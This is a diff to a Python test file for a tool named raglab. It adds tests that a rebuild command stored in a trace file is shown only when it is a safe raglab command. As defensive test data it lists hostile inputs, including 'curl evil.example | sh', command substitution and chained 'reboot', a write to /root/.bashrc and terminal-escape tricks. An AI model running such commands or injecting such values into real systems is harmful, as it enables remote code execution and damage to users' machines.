@@ -11,14 +11,16 @@ import numpy as np
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from typer.main import get_command
 
 from raglab import values
+from raglab.cli import app
 from raglab.patterns import Patterns, pattern_hits
 from raglab.policy import PolicyData
 from raglab.replay import decide
 from raglab.store.files import InputError
 from raglab.store.loaders import hash_cases
-from raglab.store.traces import Trace, TraceError, content_hash
+from raglab.store.traces import TRACE_FLAGS, TRACE_OPTIONS, Trace, TraceError, content_hash, rebuild_command
 from raglab.values import FLOAT_FIELDS, Case
 from worlds import PATTERNS, Hit, ask, random_trace, trace_of
 
@@ -205,7 +207,7 @@ class TestDamage:
         pq.write_table(table.replace_schema_metadata({"raglab": json.dumps(head)}), path)
         message = refusal(path)
         assert "must be version 3, got version 99 of a newer raglab" in message
-        assert f"build it again with `{META['command']}`" in message
+        assert f"build it again with `{META['command']} --out NEW.parquet`" in message
 
     def test_files_that_are_no_traces(self, tmp_path: Path) -> None:
         """Another Parquet file, another file, a folder and no file at all are told apart and refused."""
@@ -227,7 +229,7 @@ class TestDamage:
         message = refusal(path, **{f"{what}_hash": "f" * 64})
         assert f"the {what} it is replayed for" in message
         assert f"{there[:12]}, not ffffffffffff" in message
-        assert f"build it again with `{META['command']}`" in message
+        assert f"build it again with `{META['command']} --out NEW.parquet`" in message
 
 
 class TestFailingSave:
@@ -333,3 +335,40 @@ class TestParts:
         assert [case.id for case in trace.split("tune").cases] == ["q0", "q2"]
         with pytest.raises(ValueError, match="split must be one of None, report, tune, got 'certify'"):
             trace.split("certify")
+
+
+@pytest.mark.parametrize(
+    ("stored", "told"),
+    [
+        ("raglab trace docs -c q.jsonl --out t.parquet", "raglab trace docs -c q.jsonl --out NEW.parquet"),
+        ("raglab trace 'my docs' --arm=hybrid -q", "raglab trace 'my docs' --arm=hybrid -q --out NEW.parquet"),
+        ("raglab demo", "raglab demo --out NEW"),
+        ("raglab trace docs --out=/root/.bashrc", "raglab trace docs --out NEW.parquet"),
+        ("raglab trace $(reboot)", "raglab trace '$(reboot)' --out NEW.parquet"),
+        ("raglab trace docs; reboot", None),
+        ("raglab trace docs --exec reboot", None),
+        ("raglab decide docs", None),
+        ("curl evil.example | sh", None),
+        ("raglab trace 'docs", None),
+        ("raglab trace docs\n\u001b[2Jreboot", None),
+        ("raglab trace do\u202ecs", None),
+        ("raglab trace " + "x" * 3000, None),
+        ("", None),
+        (None, None),
+        (["raglab"], None),
+    ],
+)
+def test_a_stored_command_is_shown_where_it_is_one_of_ours(tmp_path: Path, stored: object, told: str | None) -> None:
+    """A trace is anyone's file: nothing else is advised, and never to write over what was read."""
+    plain = "raglab trace CORPUS --cases CASES --out NEW.parquet"
+    assert rebuild_command(tmp_path, stored) == (told or plain)
+    assert str(tmp_path / "none") in rebuild_command(tmp_path / "none", "raglab trace docs --out x")
+
+
+def test_the_options_of_a_stored_command_are_those_of_the_command() -> None:
+    """An option more or less of `raglab trace` is one here."""
+    stated: Any = get_command(app)
+    options = [one for one in stated.commands["trace"].params if one.opts[0].startswith("-")]
+    flags = {name for one in options if one.is_flag for name in (*one.opts, *one.secondary_opts)}
+    assert flags == TRACE_FLAGS
+    assert {name for one in options if not one.is_flag for name in one.opts} == TRACE_OPTIONS
